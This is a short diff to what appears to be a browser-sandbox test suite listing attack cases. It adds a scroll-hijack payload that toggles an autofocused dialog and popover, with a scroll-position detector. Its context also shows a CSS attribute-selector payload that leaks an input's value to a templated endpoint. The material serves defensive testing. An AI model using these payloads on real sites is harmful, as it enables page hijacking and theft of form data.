@@ -35,6 +35,18 @@ export const elementGateAttacks: readonly Attack[] = [
     tall: true,
   },
   {
+    id: "scroll-dialog",
+    title: "scroll hijack by what a dialog or a popover gives the focus to",
+    code: String.raw`document.body.innerHTML='<div style="height:1500px"></div><dialog id=d><input autofocus></dialog><div id=p popover><input autofocus></div>';const d=document.querySelector('#d'),p=document.querySelector('#p');let n=0;setInterval(()=>{try{if(n++%2)p.togglePopover();else if(d.open)d.close();else d.showModal()}catch(e){}},40)`,
+    signs: [
+      {
+        host: '(document.scrollingElement.scrollTop>5)||[...document.querySelectorAll("*")].some(e=>e.scrollTop>5&&e.tagName!=="IFRAME")',
+      },
+    ],
+    ownTile: true,
+    tall: true,
+  },
+  {
     id: "css-exfil-attr",
     title: "CSS attribute selectors that load per value",
     code: String.raw`const s=document.createElement('style');s.textContent='input[value^="s"]{background:url({{E}}/x/{{T}}-s)}';document.head.append(s);document.body.insertAdjacentHTML('beforeend','<input value="secret">')`,
